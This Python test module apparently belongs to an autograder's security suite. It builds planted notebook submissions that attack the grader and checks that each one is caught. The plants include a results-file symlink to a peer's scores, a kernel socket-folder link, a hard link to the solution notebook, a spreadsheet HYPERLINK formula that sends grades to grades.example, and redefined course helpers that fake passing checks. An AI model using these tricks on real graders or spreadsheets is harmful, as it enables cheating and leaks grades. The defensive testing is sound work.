"""Planted submissions against what the trusted side trusts (issue 25, item 2).

Each plant really attempts its attack, and each attack earned points or reached the host
before the fix it tests (README, "What the grader trusts, and why"):

  trust_results_b_link       (a) its code, in the hidden-check jail, replaces results.jsonl
                             with a symbolic link to a friend's results (the jail's folder has
                             the same path on the grader, so the friend's is a guess away); the
                             grader, as root, read the friend's 13 points as this blank
                             notebook's. Now: 0, and a note.
  trust_results_a_peer       the friend: a correct notebook whose harness lingers after its last
                             check, so its results file is still there (13).
  trust_kernel_socket_link   (a) in the feedback run, its last cell moves the kernel's socket
                             folder .ipc away, links .ipc to a folder of the grader's machine
                             (HOST, where the test listens on kernel-1..8 and keeps a
                             kernel.json) and kills its kernel: the grader's sockets reconnected
                             by path, as root, to the host's sockets (about 150 connections in
                             15 s). Now: none, and the kernel manager's cleanup, which now runs
                             (the kernel is shut down after the run), removes nothing by path:
                             the host's files stay (13 points: the last cell is after the last
                             check).
  trust_hardlinked_notebook  (b) ema.ipynb is a hard link to the course's source notebook
                             (solutions/ema/ema.ipynb): intake copied it as the student's own
                             (13 points). Now: skipped and noted, 0.
  trust_formula              (c) the written answer is a spreadsheet formula
                             (=HYPERLINK(...) that sends the row's grade away when clicked):
                             it reached manual_grades.csv live. Now: written with a leading ',
                             and noted (13 autograded points).
  trust_helper_redefined     (d, assignment 3) Parts A's simulation and B are not done, but
                             cells after the course's helper cells redefine ring_sums,
                             ring_sent and run_ring_on_processes to compute the answers
                             directly: the checks called the student's versions (13 of 13).
                             Now the course's are called: 5 of 13, and a flag.

The plants are plain data here ({student: dict(build, points, failed, why)}); plants.py and
allreduce_plants.py wrap them in their Plant and write them with the others.
"""
from __future__ import annotations

import contextlib
import os
import selectors
import shutil
import socket
import struct
import threading
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from .. import notebook as nbu

REPO = Path(__file__).resolve().parents[2]
EMA_SOURCE = REPO / "solutions" / "ema" / "ema.ipynb"
EMA_RELEASE = REPO / "assignments" / "ema" / "ema.ipynb"
AR_SOURCE = REPO / "solutions" / "allreduce" / "allreduce.ipynb"
AR_RELEASE = REPO / "assignments" / "allreduce" / "allreduce.ipynb"
HOST = "host"  # DEST/host: the host folder trust_kernel_socket_link links its .ipc to
LINGER, WAIT = 45, 12  # seconds: the friend's harness stays, the linking one waits for it


def _solved(source: Path, release: Path):
    src, nb = nbu.read(source), nbu.read(release)
    answers = {nbu.grade_id(c): nbu.solution_text(c.source) for c in src.cells
               if nbu.is_solution(c)}
    for c in nb.cells:
        if nbu.grade_id(c) in answers:
            c.source = answers[nbu.grade_id(c)]
    return nb


def _cell(nb, gid):
    return next(c for c in nb.cells if nbu.grade_id(c) == gid)


def _after(nb, gid, source):
    k = next(i for i, c in enumerate(nb.cells) if nbu.grade_id(c) == gid)
    nb.cells.insert(k + 1, new_code_cell(source))
    return nb


def _points(source: Path) -> dict[str, float]:
    return {nbu.grade_id(c): nbu.points(c) for c in nbu.read(source).cells if nbu.is_test(c)}


def _write(folder: Path, name: str, nb) -> None:
    (folder / name).mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(folder / name / f"{name}.ipynb"))


# ---- (a) the results file ----------------------------------------------------------------

PEER = f'''
import threading, time
# A friend's notebook: right answers, and a harness that stays {LINGER} s after its last check
# (a thread that is not a daemon), so that its results file is still on the grader's disk.
threading.Thread(target=time.sleep, args=({LINGER},)).start()
'''
RESULTS_LINK = f'''
import os, threading, time
# The hidden-check jail's folder has the same path on the grader: /tmp/autograder-*/<key>/checks.
here = os.getcwd()
peer = here.replace("trust_results_b_link", "trust_results_a_peer")
if os.path.exists("plan.json") and os.path.exists("results.jsonl"):  # the hidden-check jail
    os.remove("results.jsonl")
    os.symlink(os.path.join(peer, "results.jsonl"), "results.jsonl")
    # stay until the friend's checks have written their answers (not a daemon: the harness
    # exits after it)
    threading.Thread(target=time.sleep, args=({WAIT},)).start()
'''


def _peer():
    return _after(_solved(EMA_SOURCE, EMA_RELEASE), "imports", PEER)


def _results_link():
    return _after(nbu.read(EMA_RELEASE), "imports", RESULTS_LINK)


# ---- (a) the kernel's sockets and connection file ----------------------------------------

SOCKET_LINK = '''
import os
# The kernel's sockets are in .ipc, in this folder: move it away and put a link to a folder of
# the grader's machine in its place, then die so that the grader's sockets reconnect.
os.rename(".ipc", ".ipc-moved")
os.symlink({host!r}, ".ipc")
os._exit(0)
'''


def _socket_link_plant(folder: Path):
    host = str((folder.parents[1] / HOST).absolute())  # DEST/host, made by host_trap()
    nb = _solved(EMA_SOURCE, EMA_RELEASE)
    nb.cells.append(new_code_cell(SOCKET_LINK.format(host=host)))  # after the last check
    _write(folder, "ema", nb)


@contextlib.contextmanager
def host_trap(folder: Path, ports: int = 8):
    """A folder of the grader's machine with a kernel.json and listening sockets kernel-1..N.
    Yields a list that gets (socket name, uid) for every connection; raises on exit if a file
    of the folder was removed."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "kernel.json").write_text('{"host": "a file of the grader machine"}\n')
    socks, reached, stop = [], [], threading.Event()
    sel = selectors.DefaultSelector()
    for k in range(1, ports + 1):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(folder / f"kernel-{k}"))
        s.listen(16)
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, f"kernel-{k}")
        socks.append(s)

    def serve():
        while not stop.is_set():
            for key, _ in sel.select(timeout=0.2):
                try:
                    conn, _ = key.fileobj.accept()
                except OSError:
                    continue
                cred = conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED,
                                       struct.calcsize("3i"))
                reached.append((key.data, struct.unpack("3i", cred)[1]))
                conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    names = sorted(p.name for p in folder.iterdir())
    try:
        yield reached
    finally:
        stop.set()
        t.join()
        for s in socks:
            s.close()
        left = sorted(p.name for p in folder.iterdir())
        shutil.rmtree(folder, ignore_errors=True)
    if left != names:
        raise AssertionError(f"files of the host folder were removed: "
                             f"{sorted(set(names) - set(left))}")


# ---- (b) a hard link to the course's source ----------------------------------------------

def _hardlinked_notebook(folder: Path):
    d = folder / "ema"
    d.mkdir(parents=True, exist_ok=True)
    source = folder.parents[2] / "solutions" / "ema" / "ema.ipynb"  # the course being graded
    try:
        os.link(source, d / "ema.ipynb")
    except OSError:  # not written inside a course copy: a file outside the submission
        outside = folder.parents[1] / "outside-ema.ipynb"
        if not outside.exists():
            shutil.copy(EMA_SOURCE, outside)
        os.link(outside, d / "ema.ipynb")


# ---- (c) a spreadsheet formula as a written answer ----------------------------------------

FORMULA = ('=HYPERLINK("https://grades.example/?g="&C2&"&s="&A2,'
           '"Click to see the derivation")')


def _formula():
    nb = _solved(EMA_SOURCE, EMA_RELEASE)
    _cell(nb, "ema_derivation").source = FORMULA
    return nb


# ---- (d) the course's helpers redefined ----------------------------------------------------

OWN_HELPERS = '''
# My own versions of the helpers above: the sums and the byte counts straight from the formulas.
def ring_sums(values):
    total = [float(sum(col)) for col in zip(*values)]
    return [list(total) for _ in values]


def ring_sent(values):
    n, numel = len(values), len(values[0])
    if n == 1:
        return [0]
    base, extra = divmod(numel, n)
    size = [base + (1 if i < extra else 0) for i in range(n)]
    return [(2 * numel - size[(r + 1) % n] - size[(r + 2) % n]) * 4 for r in range(n)]
'''
OWN_PROCESSES = '''
# No processes needed: the same ring, in order, in float32, in this process.
def run_ring_on_processes(values, timeout_s=15.0):
    import numpy as np
    v = np.asarray(values, dtype=np.float32)
    n, numel = v.shape
    base, extra = divmod(numel, n)
    size = [base + (1 if i < extra else 0) for i in range(n)]
    start = [sum(size[:i]) for i in range(n)]
    total = np.zeros(numel, dtype=np.float32)
    for c in range(n):  # chunk c starts at rank c and goes round the ring
        lo, hi = start[c], start[c] + size[c]
        acc = v[c, lo:hi].copy()
        for k in range(1, n):
            acc = (acc + v[(c + k) % n, lo:hi]).astype(np.float32)
        total[lo:hi] = acc
    sent = [(2 * numel - size[(r + 1) % n] - size[(r + 2) % n]) * 4 for r in range(n)]
    return [[total.tolist() for _ in range(n)], sent]
'''


def _helpers_redefined():
    nb = _solved(AR_SOURCE, AR_RELEASE)
    for gid, line, what in (("ring_impl", "    n = len(values)\n", "Part A's simulation"),
                            ("dist_impl", "    n, rank = dist.get_world_size(), dist.get_rank()\n",
                             "Part B")):
        c = _cell(nb, gid)
        assert line in c.source, f"plant does not apply: {line!r} not in {gid}"
        c.source = c.source.replace(line, f"    raise NotImplementedError({what!r})\n" + line, 1)
    _after(nb, "grading_helpers", OWN_HELPERS)
    return _after(nb, "process_helpers", OWN_PROCESSES)


# ---- the plants ------------------------------------------------------------------------------

EMA_MAX = sum(_points(EMA_SOURCE).values())
EMA_TESTS = set(_points(EMA_SOURCE))
AR_POINTS = _points(AR_SOURCE)
AR_FAILED = {"test_ring_sums", "test_ring_bytes_sent", "test_ring_on_processes"}


def _nb(name, make):
    return lambda folder: _write(folder, name, make())


# Graded with the feedback run (the kernel is only there).
EMA_FULL = {
    "trust_kernel_socket_link": {
        "build": _socket_link_plant, "points": EMA_MAX, "failed": set(),
        "why": "links the kernel's socket folder to a host folder, then kills the kernel"},
}
# Graded with --checks-only.
EMA_CHECKS = {
    "trust_results_a_peer": {"build": _nb("ema", _peer), "points": EMA_MAX, "failed": set(),
                             "why": "a friend whose results stay on disk"},
    "trust_results_b_link": {"build": _nb("ema", _results_link), "points": 0.0,
                             "failed": EMA_TESTS,
                             "why": "results.jsonl replaced by a link to the friend's"},
    "trust_hardlinked_notebook": {"build": _hardlinked_notebook, "points": 0.0,
                                  "failed": EMA_TESTS,
                                  "why": "ema.ipynb is a hard link to the course's source"},
    "trust_formula": {"build": _nb("ema", _formula), "points": EMA_MAX, "failed": set(),
                      "why": "the written answer is a spreadsheet formula"},
}
# Assignment 3, graded with --checks-only by tests/test_assignment_allreduce.py.
ALLREDUCE = {
    "trust_helper_redefined": {
        "build": _nb("allreduce", _helpers_redefined),
        "points": sum(AR_POINTS.values()) - sum(AR_POINTS[t] for t in AR_FAILED),
        "failed": AR_FAILED,
        "why": "ring_sums, ring_sent, run_ring_on_processes redefined after the course's cells"},
}
# What each plant's row must say: {student: [(CSV column, text it contains), ...]}.
EXPECT = {
    "trust_kernel_socket_link": [("notes", "the kernel died in extra cell"),
                                 ("flags", "os._exit")],
    "trust_results_b_link": [("notes", "the student's code replaced results.jsonl")],
    "trust_hardlinked_notebook": [("notes", "ema/ema.ipynb: a hard link"),
                                  ("notes", "notebook missing or unreadable")],
    "trust_formula": [("notes", "ema_derivation: the answer starts like a spreadsheet formula")],
    "trust_helper_redefined": [("flags", "redefines the course's ring_sent, ring_sums"),
                               ("flags", "redefines the course's run_ring_on_processes")],
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def problems(rows: dict, out: Path) -> list:
    """What is wrong in a batch's CSVs for the trust plants it graded (``rows``: grades.csv by
    student) and for every CSV cell: one that a spreadsheet would run as a formula."""
    import csv

    found = [(s, col, text, rows[s][col][:300]) for s, want in EXPECT.items() if s in rows
             for col, text in want if text not in rows[s][col]]
    for name in ("grades.csv", "manual_grades.csv"):
        with open(out / name, newline="") as f:
            for r in csv.reader(f):
                found += [(name, v[:60]) for v in r if v.startswith(FORMULA_START)]
    if "trust_formula" in rows:
        with open(out / "manual_grades.csv", newline="") as f:
            answers = [r["answer"] for r in csv.DictReader(f) if r["student"] == "trust_formula"]
        if answers != ["'" + FORMULA]:
            found.append(("trust_formula answer", answers))
    return found
